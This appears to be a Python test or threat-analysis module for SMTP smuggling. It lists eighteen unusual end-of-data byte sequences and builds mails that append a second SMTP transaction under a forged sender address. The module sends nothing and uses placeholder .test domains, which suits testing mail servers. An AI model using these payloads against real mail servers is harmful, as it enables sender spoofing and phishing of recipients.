"""The eighteen byte sequences that some mail server takes for the end of a mail, and mails that try to use them.

Threats, appendix A: a sequence, then the commands of a second mail in the name of somebody else. Knows no socket.
"""

ENDS = {
    "LF.LF": b"\n.\n",
    "LF.CRLF": b"\n.\r\n",
    "CRLF.LF": b"\r\n.\n",
    "CR.CR": b"\r.\r",
    "CR.CRLF": b"\r.\r\n",
    "CRLF.CR": b"\r\n.\r",
    "CRLF.CRCRLF": b"\r\n.\r\r\n",
    "CRCRLF.CRLF": b"\r\r\n.\r\n",
    "CRLF-NUL.CRLF": b"\r\n\0.\r\n",
    "CRLF.NUL-CRLF": b"\r\n.\0\r\n",
    "LF..CRLF": b"\n..\r\n",
    "CRLF..CRLF": b"\r\n..\r\n",
    "LFCR.LFCR": b"\n\r.\n\r",
    "VT.VT": b"\x0b.\x0b",
    "NEL.NEL": b"\xc2\x85.\xc2\x85",
    "U+2028": b"\xe2\x80\xa8.\xe2\x80\xa8",
    "CRLF-SP.CRLF": b"\r\n .\r\n",
    "CRLF.SP-CRLF": b"\r\n. \r\n",
}
FORGED_SENDER = "admin@forged.test"


def has_bare_newline(end: bytes) -> bool:
    """True when the sequence has a CR or an LF that stands alone."""
    stray = end.replace(b"\r\n", b"")
    return b"\r" in stray or b"\n" in stray


def make_start(name: str) -> bytes:
    """The honest beginning of a mail; the sequence comes behind it."""
    return f"From: cust@c.test\r\nSubject: variant {name}\r\n\r\nThe end".encode("ascii")


def make_smuggled(recipient: str) -> bytes:
    """What follows the sequence: a second mail, if somebody takes it for commands."""
    return (
        f"MAIL FROM:<{FORGED_SENDER}>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
        "From: admin@forged.test\r\nSubject: smuggled\r\n\r\nevil\r\n.\r\n"
    ).encode("ascii")
